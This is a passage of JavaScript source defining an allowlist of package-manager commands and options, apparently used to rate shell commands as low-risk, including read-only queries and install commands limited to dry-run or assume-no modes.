    "--validate-thing --validate-trigname= --validate-archname= --assert-help " +
    "--assert-feature --force-help -Dh -? --help " +
    "--force-not-root --log=/dev/null --root= -i --install -l --list -s --status -L --listfiles -S " +
      "--search -p --print-avail -C --audit -V --verify --verify-format= --get-selections --print-architecture " +
      "--print-foreign-architectures --compare-versions -I --info -c --contents --no-pager --validate-pkgname= " +
      "--validate-version= --version --simulate --dry-run --no-act" },
  "dpkg-query": { names: true, options: "--control-path --control-show -? --help --version " +
    "-l --list -W --show -s --status -L --listfiles -S --search -f= " +
  "--showformat= -p --print-avail --no-pager -c --control-list --load-avail" },
  debsums: { names: true, options: "--ignore-permissions --ignore-obsolete -h --help --version " +
    "-a --all -e --config -c --changed -l --list-missing -s --silent " +
    "--no-locale-purge --no-prelink -m " },
  "rpm rpmquery": { names: true,
    options: "-q --query -V --verify -a --all -f --file -i --info -l --list -c --configfiles -d --docfiles -g= " +
      "--group= -p --package -R --requires --provides --whatprovides --whatrequires " +
      "--changelog --changes --scripts -s --state --triggers --last --dump --filesbypkg --conflicts --obsoletes " +
      "--recommends --suggests --supplements --qf= --queryformat= " +
      "--nofiles --nodigest --nosignature --nomtime --nosize --nomode --nouser --nogroup --nordev --nolinkto " +
      "--nofiledigest --nomd5 --nodeps --noscripts -K --checksig " +
      "--querytags --showrc -v --version --licensefiles --test " +
      "-? --help --quiet --verbose -vv --allmatches --dupes --filecaps --fileclass --filecolor " +
      "--fileprovide --filerequire --hdrid= --pkgid= --tid= --querybynumber= --triggeredby= " +
      "--whatobsoletes= --whatconflicts= --whatrecommends= --whatsuggests= --whatsupplements= " +
      "--whatenhances= --enhances --filetriggers --triggerscripts --path= --nocaps --noartifact" },
  "dnf yum microdnf tdnf": { help: "--help", options: dnfReads,
    sub: { ["list info search provides whatprovides repolist check-update deplist check repoquery updateinfo " +
      "repoinfo needs-restarting grouplist " +
      "group_list group_info groups_list groups_info module_list module_info changelog versionlock_list version " +
      "help"]: { names: true },
      "needs-restarting": { options: "-r --reboothint -s --services -u --useronly" },
      "history": { names: /^(list|info|userinstalled|\d+|last|all)$/ },
      // With `--assumeno`, which makes them low.
      "install update upgrade reinstall remove erase autoremove downgrade distro-sync groupinstall": { names: true,
        options: "--assumeno -y --best --nobest" } } },
  repoquery: { names: true, options: dnfReads },
  "needs-restarting": { options: "-r --reboothint -s --services -u --useronly" },
  apk: { options: "-q --quiet -v --verbose --no-network --simulate", sub: { "*": { names: true,
    options: "-a --all -d --description -e --installed -I --orphaned -L --contents -P --provides -R --depends -r " +
      "--rdepends -s --size -t --triggers -w --webpage -W --who-owns " +
      "--who-owns -u --upgradable --available --upgradeable -l -i --install-if --rinstall-if -x --exact -o " +
      "--origin --license --replaces --manifest" } } },
  pacman: { names: true,
    options: "-Q --query -i --info -l --list -o --owns -u --upgrades -e --explicit -d --deps -t --unrequired -m " +
      "--foreign -n --native -k --check -q --quiet " +
      "-s --search -g --groups -c --changelog -S -F -x -v --verbose --color= -p --print " +
      "-V --version -h --help --machinereadable --regex" },
  zypper: { options: "-q --quiet -v --verbose -n --non-interactive --no-refresh -x --xmlout --no-color -t= " +
    "--terse", sub: { ["search se info if list-updates lu list-patches lp patches packages pa patch-info pch " +
    "patterns pt products pd repos lr services ls locks ll ps what-provides wp " +
    "patch-check pchk needs-rebooting"]: { names: true,
    options: "-s --details -d --search-descriptions -i --installed-only -u --not-installed-only -t= --type= -r= " +
      "--repo= --match-exact --match-substrings --match-words -C --case-sensitive --provides " +
      "--requires --recommends -a --all --cve= --bugzilla= --issues= -P --priority -E --show-enabled-only -U " +
      "--uri -D --dry-run --orphaned --suggested --unneeded " +
      "--conflicts --obsoletes --suggests --supplements --enhances --name -b= --date= -g= --category= " +
      "--severity= --issue= --issues --with-optional --without-optional -i -N --sort-by-name --sort-by-repo" },
    // With `--dry-run`, which makes them low.
    "install in update up dist-upgrade dup patch remove rm": { names: true, options: "-y --no-confirm -l " +
    "--auto-agree-with-licenses --no-recommends -t= --type=" } } },
  snap: { sub: {
    "aliases saved interface recovery": { names: true, options: "--attrs --id= --abs-time" },
    "list info find changes version connections interfaces services logs warnings model tasks": { names: true,
    options: "--all --verbose --color= --unicode= --abs-time --last= --narrow -n= --no-wait --global -g" } } },
  flatpak: { sub: { enter: { names: true },
    "list info search remotes history remote-ls": { names: true, options: "-a --all -d --show-details --columns= " +
    "--app --runtime --user --system --updates -u -m" } } },
  brew: { sub: { "services_list services_info": { names: /^[\w@.-]+$/ },
    "list info search deps uses leaves config doctor": { names: /^(?!\.{0,2}\/|.*(\.rb$|:))/,
      options: "--versions --cask --formula --json --tree --installed --greedy -v --verbose -q --quiet" } } },
  "pip pip3": { help: "--help", options: "-q --quiet -v --verbose --disable-pip-version-check --no-color " +
  "--isolated --no-input " +
      "-V --version -h --help", sub: {
    "install download": { names: /^[A-Za-z0-9][\w.,[\]<>=!~-]*$/, options: "--dry-run --only-binary=:all: -r= " +
    "--requirement= -U --upgrade --no-deps -c= --constraint=" },
    ["list show freeze check cache_list cache_info cache_dir config_list config_get debug inspect " +
      "index index_versions"]: {
      names: true,
      options: "-o --outdated -u --uptodate -e --editable -l --local --user --format= --not-required --pre " +
        "--include-editable --exclude-editable --exclude= -f --files --all" } } },
  nala: { sub: { history: { names: /^(list|info|\d+)$/ }, "list show search policy": { names: true, options: "-i " +
    "--installed -u --upgradable -N --nala-installed -a --all-versions -n --names -f --full" } } },
  "pkg-config pkgconf": { names: true, options: "--modversion --version --cflags --libs --exists --list-all " +
  "--print-requires --print-errors --variable= --print-variables --static --atleast-version= --silence-errors " +
  "--short-errors" },
  pipenv: { options: "--version --where --venv --py", sub: { "graph": { names: true, options: "--bare --json " +
    "--json-tree --reverse" } } },
  pipx: { options: "--version", sub: { "list": { names: true, options: "--short --json --include-injected " +
    "--value= -V= --skip-maintenance" } } },
  uv: { options: "--version -V -q --quiet -v --verbose --no-cache -n --offline --color=", sub: {
    "pip_list pip_show pip_freeze pip_check pip_tree": { names: true, options: "--outdated --editable -e " +
    "--format= --strict --exclude= --exclude-editable -f --files -d= --depth= --invert --show-version-specifiers" },
    "python_list python_dir tool_list tool_dir cache_dir help": { names: true, options: "--only-installed " +
    "--all-versions --show-paths --show-version-specifiers --output-format=" }, version: { options: "--short " +
    "--output-format=" } } },
  poetry: { options: "--version -V -q --quiet -v -vv -vvv --no-ansi -n --no-interaction --no-plugins --no-cache", sub: {
    "show check env_list env_info search": { options: "-t --tree -l --latest -o --outdated -a --all -T " +
    "--top-level --only= --with= --without= --no-dev --why --full-path -p --path -e --executable -s --short " +
    "--lock --strict" },
    "show search": { names: true } } },
  pkg: { sub: { audit: { names: true, options: "-r -q" },
    "info query search which version stats": { names: true, options: "-a -f -l -x -g -i -e -D -A -d -b -B -k -q " +
    "-s -v -o -p -r -O -R -S= -Q= -c -I -P -t -l= -L= -u" } } },
  port: { options: "-q -v", sub: {
    "info search version installed list outdated deps contents": { names: true, options: "--name --glob --regex " +
    "--line" } } },
  opkg: { sub: {
    [
      "info search list list-installed list-upgradable list-changed-conffiles status files find compare-versions " +
      "print-architecture depends whatdepends whatrequires whatprovides"
    ]: { names: true, options: "-A" } } },
  swupd: { sub: { "info search search-file check-update bundle-list bundle-info": { names: true, options: "--all " +
    "-a --deps= -q --quiet -v --verbose" } } },
  tlmgr: { sub: { "info show list search version": { names: true, options: "--only-installed --all --file --json " +
    "--data= --list" } } },
  "xbps-install": { options: "-V --version -h --help", sub: {} },
  "conda mamba micromamba": { options: "-n= --name= -p= --prefix= --json -q --quiet", sub: {
    "list info search env_list env_info config_list help": {
    names: true, options: "-a --all -e --explicit -f --full-name -r --revisions --envs -s --system --offline" } } },
  npm: { help: "--help", sub: { "config c": { names: true, options: "-g --global -l --long --json" },
    "install i uninstall update": { names: true, options: "--no-audit --no-fund --offline --prefer-offline " +
    "--ignore-scripts --dry-run -g --global --omit= --production -D -S --save --save-dev" },
     "query pkg_get": { names: true, options: "-g --global --json" },
       "ls list outdated view info explain why prefix root version ping audit fund search": { names: true,
    options: "-g --global --depth= --json -a --all -l --long -p --parseable --prod --production --omit= " +
      "--include= --dev --only= --audit-level= --unicode" } } },
  yarn: { sub: { "application app applicationattempt container node queue logs": { names: true, options: "-list " +
    "-status= -appStates= -appTypes= -appTags= -all -states= -showDetails -applicationId= -containerId= " +
    "-nodeAddress= -appOwner= -log_files= -size= -am= -show_application_log_info -show_container_log_info -lnl " +
    "-dnl -list-node-labels -directlyAccessNodeLabelStore" } } },
  pnpm: { sub: { "list why info outdated audit ls view": { names: true, options: "--depth= --json -g --global " +
    "--recursive -r --prod --dev --long --pattern=" } } },
  gem: { sub: { "list info search outdated environment env which contents specification dependency": { names: true,
    options: "-l --local -r --remote -b --both -a --all -d --details -q --quiet -e --exact -i --installed " +
      "--versions --no-versions --pre" } } },
  bundle: { options: "--version", sub: {} },
  composer: { sub: { "show outdated licenses diagnose validate why audit check-platform-reqs": { names: true,
    options: "-i --installed -D --direct -l --latest -o --outdated -t --tree --no-dev --format= -f= -n " +
      "--no-interaction --no-ansi --locked --strict --no-plugins --no-scripts" } } },
  "go": { sub: { "version env list": { names: true, options: "-m -json -u -f= -versions -v -deps" } } },
  cargo: { help: "--help", options: "--version -V -v --verbose --list", sub: {
    "search version info help": { names: true,
    options: "-q --quiet --offline --limit=" } } },
  rustc: { options: "-v -V --version --verbose" },
  "javac kotlinc": { options: "-version --version -help --help" },
  dart: { names: /^(pub|deps|outdated)$/, options: "--version" },
  flutter: { names: /^(doctor|pub|deps|outdated)$/, options: "--version -v --verbose" },
  emerge: { names: true, options: "--info --version -s --search -S --searchdesc -p --pretend -v --verbose" },
  "mvn": { names: new RegExp(
      String.raw`^(dependency:(tree|list|display-\S+)|versions:display-\S+|help:(effective-pom|` +
      "describe|active-profiles))$"),
    options: "-v -version --version -o --offline -q --quiet" },
  gradle: { options: "-v --version -o --offline -q --quiet" },
};
